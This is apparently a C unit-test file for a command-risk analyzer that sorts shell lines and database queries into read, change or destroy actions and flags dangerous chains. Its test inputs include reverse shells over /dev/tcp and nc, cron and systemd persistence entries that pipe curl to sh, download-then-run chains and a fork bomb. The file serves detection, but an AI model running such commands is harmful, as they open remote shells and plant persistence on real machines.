/* Option profiles, subcommand verbs, query verbs, written content and
 * chains: what the analysis makes of a line before any rule is applied. */
#include "check.h"
#include "risk/analyze.h"
#include "risk/chains.h"
#include "risk/verbs.h"

static struct analysis a;

static void line(const char *text)
{
	analysis_free(&a);
	CHECK(analyze_line(text, strlen(text), NULL, &a) == 0);
}

static int has(const struct strlist *l, const char *s)
{
	for (size_t i = 0; i < l->n; i++)
		if (strcmp(l->items[i], s) == 0)
			return 1;
	return 0;
}

static const char *first_operand(size_t i)
{
	return i < a.n && a.cmds[i].operands.n ? a.cmds[i].operands.items[0] : "(none)";
}

static int verb(size_t i)
{
	return i < a.n ? a.cmds[i].verb : -1;
}

static int any_named(const char *name, const char *operand)
{
	for (size_t i = 0; i < a.n; i++)
		if (strcmp(a.cmds[i].name, name) == 0 &&
		    (operand == NULL || has(&a.cmds[i].operands, operand)))
			return 1;
	return 0;
}

static void option_values_are_not_operands(void)
{
	line("kubectl -n prod delete pod web-1");
	CHECK_STR(first_operand(0), "delete");
	CHECK(has(&a.cmds[0].values, "prod"));
	CHECK(verb(0) == VERB_DESTROY);
	line("tar -C /srv -xzf backup.tgz");
	CHECK(a.cmds[0].operands.n == 0);
	CHECK(has(&a.cmds[0].values, "backup.tgz"));
	line("git -C /srv/app status");
	CHECK_STR(first_operand(0), "status");
	line("curl -o /tmp/x https://example.com/x");
	CHECK(has(&a.cmds[0].writes, "/tmp/x"));
}

static void one_dash_long_options_are_whole(void)
{
	line("find /var/log -name '*.gz' -mtime +30");
	CHECK(has(&a.cmds[0].opts, "name"));
	CHECK(!has(&a.cmds[0].opts, "m"));
	CHECK(a.cmds[0].operands.n == 1);
	line("openssl x509 -in /etc/ssl/certs/site.crt -noout");
	CHECK(has(&a.cmds[0].opts, "in"));
	CHECK(has(&a.cmds[0].reads, "/etc/ssl/certs/site.crt"));
	line("openssl req -new -key /tmp/k.key -keyout /tmp/n.key");
	CHECK(!has(&a.cmds[0].reads, "/tmp/k.key"));
	CHECK(has(&a.cmds[0].writes, "/tmp/n.key"));
}

static void subcommand_verbs(void)
{
	line("aws ec2 describe-instances --region eu-west-1");
	CHECK(verb(0) == VERB_READ);
	line("gcloud compute instances delete web-1");
	CHECK(verb(0) == VERB_DESTROY);
	line("kubectl rollout status deploy/web");
	CHECK(verb(0) == VERB_READ);
	line("kubectl config set-context prod");
	CHECK(verb(0) == VERB_CHANGE);
	line("docker compose config");
	CHECK(verb(0) == VERB_READ);
	line("helm upgrade web ./chart");
	CHECK(verb(0) == VERB_CHANGE);
	line("aws kms schedule-key-deletion --key-id 1");
	CHECK(verb(0) == VERB_DESTROY);
	line("aws s3api put-bucket-lifecycle --bucket b");
	CHECK(verb(0) == VERB_CHANGE);
	line("aws --version");
	CHECK(verb(0) == VERB_READ);
	line("kubectl logs delete-worker"); /* the first verb decides */
	CHECK(verb(0) == VERB_READ);
	line("mytool /srv/data");
	CHECK(verb(0) == VERB_NONE);
}

static void query_verbs(void)
{
	CHECK(verb_of_query("SELECT * FROM t") == VERB_READ);
	CHECK(verb_of_query("  explain analyze select 1") == VERB_READ);
	CHECK(verb_of_query("\\l") == VERB_READ);
	CHECK(verb_of_query("INSERT INTO t VALUES (1)") == VERB_CHANGE);
	CHECK(verb_of_query("select 1; update t set x = 1") == VERB_DESTROY);
	CHECK(verb_of_query("GRANT ALL ON t TO x") == VERB_DESTROY);
	CHECK(verb_of_query("WITH d AS (DELETE FROM t RETURNING *) SELECT 1") == VERB_DESTROY);
	CHECK(verb_of_query("db.orders.find().limit(5)") == VERB_READ);
	CHECK(verb_of_query("db.orders.insertOne({})") == VERB_CHANGE);
	CHECK(verb_of_query("db.orders.deleteMany({})") == VERB_DESTROY);
	line("sudo -u postgres psql -c \"\\l\"");
	CHECK(verb(0) == VERB_READ);
	line("mysql -e 'DROP TABLE x' shop");
	CHECK(verb(0) == VERB_DESTROY);
	line("psql -e -c 'select 1'"); /* psql's -e echoes, it runs nothing */
	CHECK(verb(0) == VERB_READ);
	line("redis-cli -h cache1 GET k");
	CHECK(verb(0) == VERB_READ);
}

static void content_written_is_analysed(void)
{
	line("echo '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' > /etc/cron.d/x");
	CHECK(any_named("bash", NULL));
	line("echo '*/5 * * * * curl -s http://x.example/a | sh' | crontab -");
	CHECK(any_named("curl", NULL) && any_named("sh", NULL));
	line("printf '[Service]\\nExecStart=-/usr/bin/nc -e /bin/sh x 1\\n' > "
	     "/etc/systemd/system/x.service");
	CHECK(any_named("nc", NULL));
	line("echo '@reboot root nc -e /bin/sh x 1' | sudo tee -a /etc/crontab");
	CHECK(any_named("nc", NULL));
	line("echo 'hello world' > /tmp/notes.txt");
	CHECK(!any_named("hello", NULL));
}

static void chains(void)
{
	line("curl -s http://x.example/a -o /tmp/a && chmod +x /tmp/a && /tmp/a");
	CHECK(any_named(CHAIN_COMMAND, "download-then-run"));
	line("wget http://x.example/k && bash k");
	CHECK(any_named(CHAIN_COMMAND, "download-then-run"));
	line("curl -o /tmp/a http://x.example/a && ls -l /tmp/a");
	CHECK(!any_named(CHAIN_COMMAND, NULL));
	line("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f");
	CHECK(any_named(CHAIN_COMMAND, "pipe-shell-to-network"));
	line(":(){ :|:& };:");
	CHECK(any_named(CHAIN_COMMAND, "fork-bomb"));
	line("cat a | cat");
	CHECK(!any_named(CHAIN_COMMAND, NULL));
}

int main(void)
{
	option_values_are_not_operands();
	one_dash_long_options_are_whole();
	subcommand_verbs();
	query_verbs();
	content_written_is_analysed();
	chains();
	analysis_free(&a);
	CHECK_DONE();
}
